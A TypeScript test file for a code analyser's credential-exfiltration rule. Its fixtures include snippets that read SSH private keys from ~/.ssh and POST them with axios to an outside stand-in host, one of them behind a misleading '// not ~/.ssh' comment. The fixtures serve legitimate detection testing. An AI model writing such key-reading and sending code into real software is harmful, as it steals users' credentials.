import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyseProject } from '../analyse-project.ts';

const found = async (text: string) => {
  const { observations } = await analyseProject([{ path: 'a.js', text }]);
  return observations.filter(({ rule }) => rule === 'credential-exfiltration');
};

test('a route sends nothing, whatever the file reads elsewhere', async () => {
  const files = [
    `const hono = require('hono'); const api = new hono.Hono();
const folder = home + '/.ssh'; const known = fs.readdirSync(folder);
api.post('/hosts', listHosts);`,
    `const keys = read(home + '/.ssh/id_rsa');
router.post(['/a', '/b'], checkToken, makeHandler(keys));`,
    `function keys() { return fs.readFileSync(home + '/.ssh/id_rsa'); }
axios.post(statistics, { version });`,
  ];
  for (const text of files) assert.deepEqual(await found(text), [], text);
});

test('both places are told: where credentials are read and where they are sent', async () => {
  const [only] = await found(`async function rates(day) {
  // not ~/.ssh
  const text = await fs.readFile(home + '/.ssh/id_ed25519', 'utf8');
  const at = 'https://rates.example/day';
  return axios.post(at, { day, text });
}
`);
  assert.equal(only?.severity, 'critical');
  assert.deepEqual(
    only.flow?.map(({ role, location, text }) => `${role} ${location.startLine} ${text}`),
    [
      "source 3 const text = await fs.readFile(home + '/.ssh/id_ed25519', 'utf8');",
      'sink 5 return axios.post(at, { day, text });',
    ],
  );
});

test('what a file does outside of functions is one piece', async () => {
  const observed = await found(`const text = fs.readFileSync(home + '/.ssh/id_rsa');
axios.post('https://rates.example', { text });`);
  assert.equal(observed.length, 1);
});
